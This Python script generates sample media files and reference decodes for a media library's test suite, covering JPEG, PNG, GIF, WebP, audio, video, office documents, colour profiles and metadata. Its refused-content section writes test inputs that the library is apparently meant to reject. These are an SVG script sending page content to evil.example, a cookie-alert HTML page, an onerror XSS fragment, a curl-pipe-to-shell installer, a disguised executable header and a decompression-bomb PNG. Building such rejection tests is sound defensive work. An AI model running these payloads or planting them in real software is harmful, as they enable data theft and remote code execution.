#!/usr/bin/python3
"""Writes the sample files of tests/Reperes.Media.Tests/Samples and their reference decodes.

Run once by hand on Debian (the tests never run it):
  apt-get install -y libjpeg-turbo-progs imagemagick ffmpeg webp libimage-exiftool-perl \
                     python3-docx python3-openpyxl python3-odf icc-profiles-free libheif-examples
  /usr/bin/python3 tools/media-samples/generate.py            # every sample (rewrites the folder)
  /usr/bin/python3 tools/media-samples/generate.py color heic # only these parts, the rest untouched
References come from other programs than libvips: djpeg (libjpeg-turbo) for JPEG, ImageMagick (libpng, its own GIF
reader, lcms2 for colour profiles) for PNG, GIF and colour conversions. PNG test files are written by this script
(every colour type, depth, filter and Adam7), and so is the Display P3 profile (from its published primaries).
"""
import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "tests", "Reperes.Media.Tests", "Samples")
CONVERT = "/usr/bin/convert"
TMP = tempfile.mkdtemp()


def run(*args, **kw):
    subprocess.run(args, check=True, stdout=kw.get("stdout", subprocess.DEVNULL), stderr=subprocess.DEVNULL)


def out(*parts):
    path = os.path.join(ROOT, *parts)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return path


def tmp(name):
    return os.path.join(TMP, name)


# ---------------------------------------------------------------- sources
def make_source(name, size, marker=True):
    """Photo-like texture (fractal plasma) with a red square in the top-left corner to see orientation."""
    path = tmp(name + ".ppm")
    w, h = size
    draw = ["-fill", "#d01010", "-draw", f"rectangle 0,0 {max(2, w // 4)},{max(2, h // 4)}"] if marker else []
    run(CONVERT, "-size", f"{w}x{h}", "-seed", "7", "plasma:fractal", "-blur", "0x0.7", *draw, "-depth", "8", path)
    return path


# ---------------------------------------------------------------- JPEG
def jpeg_samples():
    src = make_source("photo", (48, 32))
    odd = make_source("odd", (37, 29))
    gray = tmp("gray.pgm")
    run(CONVERT, src, "-colorspace", "Gray", "-depth", "8", gray)
    cases = {
        "baseline-420": (src, ["-quality", "85", "-sample", "2x2"]),
        "baseline-422": (src, ["-quality", "85", "-sample", "2x1"]),
        "baseline-444": (src, ["-quality", "85", "-sample", "1x1"]),
        "baseline-440": (src, ["-quality", "85", "-sample", "1x2"]),
        "baseline-411": (src, ["-quality", "85", "-sample", "4x1"]),
        "baseline-420-odd-size": (odd, ["-quality", "75", "-sample", "2x2"]),
        "baseline-420-optimized-restart": (src, ["-quality", "80", "-optimize", "-restart", "2B"]),
        "gray": (gray, ["-quality", "85"]),
        "progressive-420": (src, ["-quality", "85", "-progressive"]),
        "progressive-444-odd-size": (odd, ["-quality", "90", "-progressive", "-sample", "1x1"]),
        "progressive-gray-restart": (gray, ["-quality", "85", "-progressive", "-restart", "1"]),
    }
    for name, (source, options) in cases.items():
        jpg = out("jpeg", name + ".jpg")
        run("cjpeg", *options, "-outfile", jpg, source)
        ext = ".pgm" if "gray" in name else ".ppm"
        run("djpeg", "-pnm", "-outfile", out("jpeg", name + ext), jpg)

    # Refused variants: arithmetic coding and CMYK (Adobe).
    run("cjpeg", "-arithmetic", "-outfile", out("jpeg", "arithmetic.jpg"), src)
    run(CONVERT, src, "-colorspace", "CMYK", "-quality", "80", out("jpeg", "cmyk-adobe.jpg"))

    # A phone photo: stored lying on its side (orientation 6), with a GPS position and a camera serial number.
    photo = out("jpeg", "phone-rotated-gps.jpg")
    big = make_source("phone", (64, 48))
    run("cjpeg", "-quality", "90", "-outfile", photo, big)
    run("exiftool", "-q", "-overwrite_original", "-Orientation#=6", "-GPSLatitude=48.3904", "-GPSLatitudeRef=N",
        "-GPSLongitude=4.4861", "-GPSLongitudeRef=W", "-SerialNumber=SN-123456", "-Make=PhoneMaker", photo)
    # Expected upright result at 24 px: ImageMagick's -scale averages areas like our downscaler.
    run(CONVERT, photo, "-auto-orient", "-scale", "18x24!", "-depth", "8", out("jpeg", "phone-rotated-gps.upright-18x24.ppm"))

    # The eight orientations of one small 4:4:4 picture, with ImageMagick's upright decode.
    tiny = make_source("tiny", (16, 8))
    for n in range(1, 9):
        path = out("jpeg", "orientation", f"orientation-{n}.jpg")
        run("cjpeg", "-quality", "95", "-sample", "1x1", "-outfile", path, tiny)
        run("exiftool", "-q", "-overwrite_original", f"-Orientation#={n}", path)
        run(CONVERT, path, "-auto-orient", "-depth", "8", out("jpeg", "orientation", f"orientation-{n}.upright.ppm"))


# ---------------------------------------------------------------- PNG
def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def paeth(a, b, c):
    p = a + b - c
    pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
    return a if pa <= pb and pa <= pc else (b if pb <= pc else c)


def filter_rows(rows, bpp):
    """Cycles through the five filters so that the decoder's every unfilter path is used."""
    data = bytearray()
    previous = bytes(len(rows[0])) if rows else b""
    for y, row in enumerate(rows):
        f = y % 5
        data.append(f)
        for i, x in enumerate(row):
            a = row[i - bpp] if i >= bpp else 0
            b = previous[i]
            c = previous[i - bpp] if i >= bpp else 0
            pred = [0, a, b, (a + b) // 2, paeth(a, b, c)][f]
            data.append((x - pred) & 0xFF)
        previous = row
    return bytes(data)


def pack_row(samples, depth):
    if depth == 8:
        return bytes(samples)
    if depth == 16:
        return b"".join(struct.pack(">H", s) for s in samples)
    per = 8 // depth
    out_bytes = bytearray()
    for i in range(0, len(samples), per):
        byte = 0
        for j in range(per):
            s = samples[i + j] if i + j < len(samples) else 0
            byte |= s << (8 - depth * (j + 1))
        out_bytes.append(byte)
    return bytes(out_bytes)


ADAM7 = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]


def write_png(path, width, height, color_type, depth, pixel, interlace=False, plte=None, trns=None, idat_parts=3):
    """pixel(x, y) returns the list of samples of one pixel."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color_type]
    bpp = max(1, channels * depth // 8)

    def image_rows(xs, ys):
        return [pack_row([s for x in xs for s in pixel(x, y)], depth) for y in ys]

    if interlace:
        raw = b""
        for x0, y0, dx, dy in ADAM7:
            xs, ys = list(range(x0, width, dx)), list(range(y0, height, dy))
            if xs and ys:
                raw += filter_rows(image_rows(xs, ys), bpp)
    else:
        raw = filter_rows(image_rows(range(width), range(height)), bpp)
    compressed = zlib.compress(raw, 9)
    png = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color_type, 0, 0, 1 if interlace else 0))
    if plte:
        png += png_chunk(b"PLTE", bytes(plte))
    if trns is not None:
        png += png_chunk(b"tRNS", bytes(trns))
    step = max(1, len(compressed) // idat_parts + 1)
    for i in range(0, len(compressed), step):
        png += png_chunk(b"IDAT", compressed[i:i + step])
    png += png_chunk(b"IEND", b"")
    with open(path, "wb") as f:
        f.write(png)


def png_samples():
    w, h = 19, 13  # Odd sizes: partial bytes at low depths, Adam7 passes of uneven size.

    def level(x, y, maxv):
        return ((x * 7 + y * 11) * maxv // (7 * (w - 1) + 11 * (h - 1))) % (maxv + 1)

    palette = [v for i in range(256) for v in ((i * 37) % 256, (i * 91) % 256, (i * 13) % 256)]
    cases = []
    for depth in (1, 2, 4, 8, 16):
        maxv = (1 << depth) - 1
        cases.append((f"gray{depth}", 0, depth, lambda x, y, m=maxv: [level(x, y, m)], {}))
    cases.append(("gray8-trns", 0, 8, lambda x, y: [level(x, y, 255)], {"trns": struct.pack(">H", level(3, 3, 255))}))
    cases.append(("gray2-trns", 0, 2, lambda x, y: [level(x, y, 3)], {"trns": struct.pack(">H", 1)}))
    cases.append(("rgb8", 2, 8, lambda x, y: [x * 13 % 256, y * 19 % 256, (x * y) % 256], {}))
    cases.append(("rgb16", 2, 16, lambda x, y: [x * 3331 % 65536, y * 5003 % 65536, (x * y * 257) % 65536], {}))
    cases.append(("rgb8-trns", 2, 8, lambda x, y: [x % 3 * 100, y % 2 * 200, 50], {"trns": struct.pack(">HHH", 100, 200, 50)}))
    cases.append(("rgb16-trns", 2, 16, lambda x, y: [x % 3 * 1000, 7, 9], {"trns": struct.pack(">HHH", 1000, 7, 9)}))
    cases.append(("graya8", 4, 8, lambda x, y: [level(x, y, 255), (x * 20) % 256], {}))
    cases.append(("graya16", 4, 16, lambda x, y: [level(x, y, 65535), (y * 5000) % 65536], {}))
    cases.append(("rgba8", 6, 8, lambda x, y: [x * 13 % 256, y * 19 % 256, 128, (x + y) * 9 % 256], {}))
    cases.append(("rgba16", 6, 16, lambda x, y: [x * 3331 % 65536, y * 5003 % 65536, 40000, (x + y) * 2500 % 65536], {}))
    for depth in (1, 2, 4, 8):
        count = 1 << depth
        cases.append((f"palette{depth}", 3, depth, lambda x, y, c=count: [(x + y) % c], {"plte": palette[:count * 3]}))
    cases.append(("palette8-trns", 3, 8, lambda x, y: [(x * y) % 200],
                  {"plte": palette[:200 * 3], "trns": [(i * 5) % 256 for i in range(120)]}))
    for name, color_type, depth, pixel, extra in cases:
        for interlace in (False, True):
            if interlace and name not in ("gray1", "gray4", "rgb8", "rgba16", "palette2", "palette8-trns", "graya8"):
                continue
            file = name + ("-adam7" if interlace else "") + ".png"
            path = out("png", file)
            write_png(path, w, h, color_type, depth, pixel, interlace, extra.get("plte"), extra.get("trns"))
            run("pngcheck", "-q", path)
            run(CONVERT, path, "-depth", "8", "RGBA:" + path[:-4] + ".rgba")

    # A tiny 1×1 interlaced image: six of the seven Adam7 passes are empty.
    write_png(out("png", "rgba8-1x1-adam7.png"), 1, 1, 6, 8, lambda x, y: [10, 20, 30, 40], True)
    run(CONVERT, out("png", "rgba8-1x1-adam7.png"), "-depth", "8", "RGBA:" + out("png", "rgba8-1x1-adam7.rgba"))

    # A decompression bomb: the header declares 100000×100000 pixels over a few bytes of data.
    bomb = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 100000, 100000, 8, 6, 0, 0, 0))
    bomb += png_chunk(b"IDAT", zlib.compress(b"\0" * 4096, 9)) + png_chunk(b"IEND", b"")
    with open(out("png", "bomb-100000x100000.png"), "wb") as f:
        f.write(bomb)

    # A drawing with transparency and an EXIF chunk (eXIf) holding a GPS position.
    logo = out("png", "logo-transparent-exif.png")
    run(CONVERT, "-size", "40x30", "xc:none", "-fill", "#1060c0", "-draw", "circle 20,15 20,3", "-fill", "#f0c000",
        "-draw", "rectangle 2,2 12,8", "PNG32:" + logo)
    run("exiftool", "-q", "-overwrite_original", "-GPSLatitude=48.39", "-GPSLatitudeRef=N", "-GPSLongitude=4.48", "-GPSLongitudeRef=W", logo)


# ---------------------------------------------------------------- GIF
def gif_samples():
    src = make_source("gif", (30, 20))
    run(CONVERT, src, "-colors", "64", out("gif", "gif89a.gif"))
    run(CONVERT, src, "-colors", "16", "-interlace", "GIF", out("gif", "interlaced.gif"))
    run(CONVERT, src, "-colors", "32", "+dither", "GIF87:" + out("gif", "gif87a.gif"))
    run(CONVERT, "-size", "30x20", "xc:none", "-fill", "#c02020", "-draw", "circle 15,10 15,2", out("gif", "transparent.gif"))
    # Two frames; the first covers only part of the 40×30 screen, at an offset.
    run(CONVERT, "-dispose", "none", "-delay", "20", "-page", "40x30+5+4", src, "-page", "40x30+0+0",
        "-size", "40x30", "xc:#2040a0", "-colors", "32", out("gif", "animated-offset.gif"))
    for name in ("gif89a", "interlaced", "gif87a", "transparent"):
        path = out("gif", name + ".gif")
        run(CONVERT, path + "[0]", "-depth", "8", "RGBA:" + path[:-4] + ".rgba")
    # Browsers leave the screen outside the first frame transparent (ImageMagick's -coalesce paints it black).
    path = out("gif", "animated-offset.gif")
    run(CONVERT, "-size", "40x30", "xc:none", "(", path + "[0]", "+repage", ")", "-geometry", "+5+4", "-composite",
        "-depth", "8", "RGBA:" + path[:-4] + ".rgba")


# ---------------------------------------------------------------- WebP
def webp_samples():
    src = make_source("webp", (30, 20))
    png = tmp("webp.png")
    run(CONVERT, src, png)
    run("cwebp", "-quiet", "-q", "50", png, "-o", out("webp", "lossy.webp"))
    run("cwebp", "-quiet", "-lossless", png, "-o", out("webp", "lossless.webp"))
    alpha = tmp("alpha.png")
    run(CONVERT, "-size", "30x20", "xc:none", "-fill", "#1060c0", "-draw", "circle 15,10 15,2", "PNG32:" + alpha)
    run("cwebp", "-quiet", "-q", "60", alpha, "-o", out("webp", "lossy-alpha.webp"))
    exif_jpeg = tmp("exif.jpg")
    run("cjpeg", "-outfile", exif_jpeg, src)
    run("exiftool", "-q", "-overwrite_original", "-Orientation#=6", "-GPSLatitude=48.39", "-GPSLatitudeRef=N", exif_jpeg)
    exif = tmp("exif.bin")
    with open(exif, "wb") as f:
        subprocess.run(["exiftool", "-b", "-exif", exif_jpeg], check=True, stdout=f)
    run("webpmux", "-set", "exif", exif, out("webp", "lossy.webp"), "-o", out("webp", "exif-rotated-gps.webp"))


# ---------------------------------------------------------------- audio and video
def av_samples():
    sine = ["-f", "lavfi", "-i", "sine=frequency=440:duration=0.3:sample_rate=16000"]
    ff = ["ffmpeg", "-y", "-loglevel", "error", "-bitexact"]
    run(*ff, *sine, "-ac", "1", "-c:a", "libmp3lame", "-b:a", "16k", "-id3v2_version", "3", "-metadata", "title=Repères",
        out("audio", "id3-tagged.mp3"))
    run(*ff, *sine, "-ac", "1", "-c:a", "libmp3lame", "-b:a", "16k", "-id3v2_version", "0", "-write_xing", "0",
        out("audio", "frames-only.mp3"))
    run(*ff, *sine, "-ac", "1", "-c:a", "libvorbis", "-q:a", "0", out("audio", "vorbis.ogg"))
    run(*ff, *sine, "-ac", "1", "-c:a", "libopus", "-b:a", "8k", out("audio", "voice.opus"))
    run(*ff, "-f", "lavfi", "-i", "sine=frequency=440:duration=0.05:sample_rate=8000", "-c:a", "pcm_u8", out("audio", "tone.wav"))
    run(*ff, *sine, "-ac", "1", "-c:a", "flac", out("audio", "tone.flac"))
    run(*ff, *sine, "-ac", "1", "-c:a", "aac", "-b:a", "16k", "-f", "adts", out("audio", "tone.aac"))
    run(*ff, *sine, "-ac", "1", "-c:a", "aac", "-b:a", "16k", out("audio", "tone.m4a"))
    # What Chrome's MediaRecorder sends for a voice note: Opus in WebM, no video track.
    run(*ff, *sine, "-ac", "1", "-c:a", "libopus", "-b:a", "8k", "-f", "webm", out("audio", "mediarecorder.webm"))
    # Safari's MediaRecorder: AAC in an MP4 with the "isom" brand and the moov box first.
    run(*ff, *sine, "-ac", "1", "-c:a", "aac", "-b:a", "16k", "-movflags", "+faststart", "-f", "mp4", out("audio", "safari-recorder.mp4"))

    video = ["-f", "lavfi", "-i", "testsrc=size=32x24:rate=5:duration=0.4"]
    run(*ff, *video, "-c:v", "libvpx", "-b:v", "20k", out("video", "clip.webm"))
    run(*ff, *video, "-c:v", "libx264", "-pix_fmt", "yuv420p", "-preset", "ultrafast", "-movflags", "+faststart", out("video", "clip.mp4"))
    run(*ff, *video, "-c:v", "libx264", "-pix_fmt", "yuv420p", "-preset", "ultrafast", out("video", "clip-moov-at-end.mp4"))
    run(*ff, *video, "-c:v", "libx264", "-pix_fmt", "yuv420p", "-preset", "ultrafast", "-f", "mov", out("video", "clip.mov"))
    run(*ff, *video, "-c:v", "libx264", "-pix_fmt", "yuv420p", "-preset", "ultrafast", out("video", "clip.mkv"))


# ---------------------------------------------------------------- documents and refused content
MINIMAL_PDF = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >> endobj
4 0 obj << /Length 44 >> stream
BT /F1 18 Tf 20 40 Td (Reperes) Tj ET
endstream endobj
5 0 obj << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> endobj
trailer << /Root 1 0 R >>
%%EOF
"""


def document_samples():
    import docx
    import openpyxl
    from odf.opendocument import OpenDocumentText
    from odf.text import P

    with open(out("documents", "sample.pdf"), "wb") as f:
        f.write(MINIMAL_PDF)
    d = docx.Document()
    d.add_paragraph("Horaires de la permanence")
    d.save(out("documents", "sample.docx"))
    wb = openpyxl.Workbook()
    wb.active["A1"] = "Repères"
    wb.save(out("documents", "sample.xlsx"))
    odt = OpenDocumentText()
    odt.text.addElement(P(text="Horaires de la permanence"))
    odt.save(out("documents", "sample.odt"))

    # A Word document with macros: the same package with the macro-enabled type and a VBA project.
    with zipfile.ZipFile(out("documents", "sample.docx")) as source, zipfile.ZipFile(out("refused", "macros.docm"), "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
                data = data.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            target.writestr(item, data)
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60))
    with zipfile.ZipFile(out("refused", "archive.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("lisez-moi.txt", "Bonjour\n")
        z.writestr("photo.jpg", b"MZ" + bytes(62))

    # An executable renamed as a photo: a DOS/PE header (the bytes sniffing sees), not a working program.
    pe = bytearray(256)
    pe[0:2] = b"MZ"
    pe[0x3C:0x40] = struct.pack("<I", 0x80)
    pe[0x80:0x84] = b"PE\0\0"
    pe[0x84:0x86] = struct.pack("<H", 0x8664)
    pe[0x4E:0x4E + 39] = b"This program cannot be run in DOS mode."
    with open(out("refused", "photo.jpg"), "wb") as f:
        f.write(pe)
    with open("/bin/true", "rb") as f:
        elf_head = f.read(1024)  # The head is all sniffing reads; the whole program is not needed.
    with open(out("refused", "program-head.elf"), "wb") as f:
        f.write(elf_head)
    with open(out("refused", "macho-head.bin"), "wb") as f:
        f.write(struct.pack("<IIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(36))
    texts = {
        "script.svg": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                      '<script>fetch("/mon-espace").then(r => r.text()).then(t => new Image().src = "//evil.example/?" + t)</script>'
                      '<rect width="10" height="10"/></svg>\n',
        "bare.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>\n',
        "page.html": "<!DOCTYPE html>\n<html><head><title>Avis</title></head><body><script>alert(document.cookie)</script></body></html>\n",
        "fragment.htm": "\n  <div>Bonjour</div><img src=x onerror=alert(1)>\n",
        "install.sh": "#!/bin/sh\ncurl http://evil.example/x | sh\n",
        "notes.txt": "Permanence le mardi de 9 h à 12 h.\n",
    }
    for name, text in texts.items():
        with open(out("refused", name), "w", encoding="utf-8") as f:
            f.write(text)
    with open(out("refused", "utf16.svg"), "wb") as f:
        f.write(texts["bare.svg"].encode("utf-16"))


# ---------------------------------------------------------------- colour profiles
def s15(value):
    return struct.pack(">i", int(round(value * 65536)))


def icc_matrix_profile(description, primaries, transfer):
    """An ICC v2 display profile (matrix/TRC): primaries as xy chromaticities with a D65 white, adapted to the
    profile connection space's D50 with the Bradford transform, as colour management systems expect."""
    def xyz(x, y):
        return [x / y, 1.0, (1 - x - y) / y]

    def solve(m, v):  # 3×3 linear system by Cramer's rule
        def det(a):
            return (a[0][0] * (a[1][1] * a[2][2] - a[1][2] * a[2][1]) - a[0][1] * (a[1][0] * a[2][2] - a[1][2] * a[2][0])
                    + a[0][2] * (a[1][0] * a[2][1] - a[1][1] * a[2][0]))
        d = det(m)
        return [det([[v[r] if c == i else m[r][c] for c in range(3)] for r in range(3)]) / d for i in range(3)]

    def mul(a, b):
        return [[sum(a[r][k] * b[k][c] for k in range(3)) for c in range(3)] for r in range(3)]

    def inv(m):
        cols = [solve(m, [1 if r == c else 0 for r in range(3)]) for c in range(3)]
        return [[cols[c][r] for c in range(3)] for r in range(3)]

    white = xyz(0.3127, 0.3290)
    p = [xyz(*primaries[i]) for i in range(3)]
    m = [[p[c][r] for c in range(3)] for r in range(3)]
    scale = solve(m, white)
    rgb_to_xyz = [[m[r][c] * scale[c] for c in range(3)] for r in range(3)]
    bradford = [[0.8951, 0.2664, -0.1614], [-0.7502, 1.7135, 0.0367], [0.0389, -0.0685, 1.0296]]
    d50 = [0.9642, 1.0, 0.8249]
    lms_src = [sum(bradford[r][k] * white[k] for k in range(3)) for r in range(3)]
    lms_dst = [sum(bradford[r][k] * d50[k] for k in range(3)) for r in range(3)]
    adapt = mul(inv(bradford), mul([[lms_dst[i] / lms_src[i] if i == j else 0 for j in range(3)] for i in range(3)], bradford))
    adapted = mul(adapt, rgb_to_xyz)

    def xyz_tag(v):
        return b"XYZ " + bytes(4) + b"".join(s15(c) for c in v)

    def text_tag(text):
        return b"text" + bytes(4) + text.encode("ascii") + b"\0"

    def desc_tag(text):
        ascii_text = text.encode("ascii") + b"\0"
        return b"desc" + bytes(4) + struct.pack(">I", len(ascii_text)) + ascii_text + bytes(4 + 4 + 2 + 1 + 67)

    curve = b"curv" + bytes(4) + struct.pack(">I", 1024) + b"".join(
        struct.pack(">H", int(round(transfer(i / 1023) * 65535))) for i in range(1024))
    tags = [(b"desc", desc_tag(description)), (b"cprt", text_tag("No copyright, use freely")),
            (b"wtpt", xyz_tag(d50)),
            (b"rXYZ", xyz_tag([adapted[r][0] for r in range(3)])), (b"gXYZ", xyz_tag([adapted[r][1] for r in range(3)])),
            (b"bXYZ", xyz_tag([adapted[r][2] for r in range(3)])),
            (b"chad", b"sf32" + bytes(4) + b"".join(s15(adapt[r][c]) for r in range(3) for c in range(3))),
            (b"rTRC", curve), (b"gTRC", curve), (b"bTRC", curve)]
    table, data, offsets = b"", b"", {}
    offset = 128 + 4 + 12 * len(tags)
    for signature, body in tags:
        if id(body) not in offsets:
            while (offset + len(data)) % 4:
                data += b"\0"
            offsets[id(body)] = offset + len(data)
            data += body
        table += signature + struct.pack(">II", offsets[id(body)], len(body))
    size = offset + len(data)
    header = (struct.pack(">I", size) + b"lcms" + bytes([2, 0x10, 0, 0]) + b"mntrRGB XYZ " + struct.pack(">6H", 2026, 1, 1, 0, 0, 0)
              + b"acsp" + b"APPL" + bytes(4) + bytes(4) + bytes(4) + bytes(8) + struct.pack(">I", 0)
              + b"".join(s15(c) for c in d50) + bytes(4) + bytes(16) + bytes(28))
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + data


def srgb_transfer(v):
    return v / 12.92 if v <= 0.04045 else ((v + 0.055) / 1.055) ** 2.4


# Patches of colour given as numbers in the photo's own space: in gamut of sRGB, and one (first) beyond it.
COLOUR_PATCHES = [(230, 30, 40), (200, 90, 70), (70, 170, 90), (60, 90, 200), (230, 200, 70), (128, 128, 128)]


def color_samples():
    p3 = out("color", "display-p3.icc")
    with open(p3, "wb") as f:
        f.write(icc_matrix_profile("Display P3 (Reperes samples)", [(0.680, 0.320), (0.265, 0.690), (0.150, 0.060)], srgb_transfer))
    patches = tmp("patches.ppm")
    args = [CONVERT]
    for r, g, b in COLOUR_PATCHES:
        args += ["-size", "32x48", f"xc:rgb({r},{g},{b})"]
    run(*args, "+append", "-depth", "8", patches)
    for name, profile in (("display-p3", p3), ("adobe-rgb", "/usr/share/color/icc/compatibleWithAdobeRGB1998.icc")):
        jpg = out("color", name + ".jpg")
        run("cjpeg", "-quality", "95", "-sample", "1x1", "-outfile", jpg, patches)
        run("exiftool", "-q", "-overwrite_original", f"-ICC_Profile<={profile}", jpg)
        # Reference: ImageMagick through lcms2 from the embedded profile to Debian's sRGB profile.
        run(CONVERT, jpg, "-intent", "Relative", "-profile", "/usr/share/color/icc/sRGB.icc", "-depth", "8",
            out("color", name + ".srgb.ppm"))


# ---------------------------------------------------------------- HEIC and a photo full of metadata
def heic_samples():
    src = make_source("heic", (64, 48))
    png = tmp("heic.png")
    run(CONVERT, src, png)
    run("heif-enc", "-q", "60", "-o", out("heic", "iphone.heic"), png)


def metadata_samples():
    """A phone photo carrying every kind of metadata a JPEG can: EXIF (orientation 6, GPS, serial number), XMP, IPTC,
    a comment, and bytes hidden after the end of the image."""
    photo = out("jpeg", "phone-all-metadata.jpg")
    run("cjpeg", "-quality", "90", "-outfile", photo, make_source("metadata", (64, 48)))
    run("exiftool", "-q", "-overwrite_original", "-Orientation#=6", "-GPSLatitude=48.3904", "-GPSLatitudeRef=N",
        "-GPSLongitude=4.4861", "-GPSLongitudeRef=W", "-SerialNumber=SN-123456", "-Make=PhoneMaker",
        "-XMP-dc:Creator=Jeanne Secret", "-IPTC:By-line=Jeanne Secret", "-IPTC:City=Brest-IPTC",
        "-Comment=COMMENT-SECRET", photo)
    with open(photo, "ab") as f:
        f.write(b"HIDDEN-AFTER-END")


def main():
    parts = {"jpeg": jpeg_samples, "png": png_samples, "gif": gif_samples, "webp": webp_samples, "av": av_samples,
             "documents": document_samples, "color": color_samples, "heic": heic_samples, "metadata": metadata_samples}
    if len(sys.argv) > 1:
        for name in sys.argv[1:]:
            parts[name]()
        return
    if os.path.isdir(ROOT):
        for entry in os.listdir(ROOT):
            if entry not in ("README.md", ".gitattributes"):
                shutil.rmtree(os.path.join(ROOT, entry))
    jpeg_samples()
    png_samples()
    gif_samples()
    webp_samples()
    av_samples()
    document_samples()
    color_samples()
    heic_samples()
    metadata_samples()
    total = sum(os.path.getsize(os.path.join(d, f)) for d, _, files in os.walk(ROOT) for f in files)
    print(f"{total // 1024} KB in {ROOT}", file=sys.stderr)


main()
